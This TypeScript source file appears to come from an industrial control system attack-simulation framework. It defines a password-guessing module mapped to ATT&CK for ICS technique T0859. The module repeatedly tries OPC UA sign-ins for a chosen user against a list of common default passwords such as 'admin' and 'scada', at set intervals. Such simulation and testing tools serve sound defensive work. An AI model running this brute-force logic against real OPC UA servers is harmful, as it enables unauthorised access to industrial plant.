// T0859 Valid Accounts: a foreign client tries one password after the other until it is let in. ATT&CK for ICS keeps no technique
// for the guessing itself; it is the way to a valid account.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { OPCUA_HOSTS, opcuaAttacker, Secure } from './opcua-client.ts'

const Parameters = z.strictObject({
  user: z.string().min(1).max(200).default('operator').describe('The user whose password is guessed.'),
  passwords: z
    .array(z.string().min(1).max(200))
    .min(1)
    .max(1000)
    .default(['123456', 'admin', 'password', 'operator', '888888', 'scada'])
    .describe('The passwords that are tried, in this order and then again.'),
  perStrike: z.int().min(1).max(20).default(3).describe('How many are tried at each strike.'),
  secure: Secure,
  everySeconds: z.number().min(0).max(3600).default(10).describe('After how many seconds it tries again; 0 strikes once.')
})

export const passwordGuessing = {
  name: 'password-guessing',
  title: { zh: 'OPC UA 口令猜测', en: 'Guessing of OPC UA passwords' },
  technique: 'T0859',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold, { user, passwords, perStrike, secure, everySeconds }) {
    const attacker = await opcuaAttacker(foothold)
    let next = 0
    return {
      ...{ tags: [], hosts: OPCUA_HOSTS, insistSeconds: everySeconds },
      async strike() {
        for (let tried = 0; tried < perStrike; tried++) {
          const password = passwords[next % passwords.length] ?? ''
          // Who has found it has no more to guess, and comes back with it.
          if (!(await attacker.trySignIn({ secure }, { name: user, password }))) next++
        }
      },
      undo: () => attacker[Symbol.asyncDispose]()
    }
  }
} satisfies Attack<typeof Parameters>
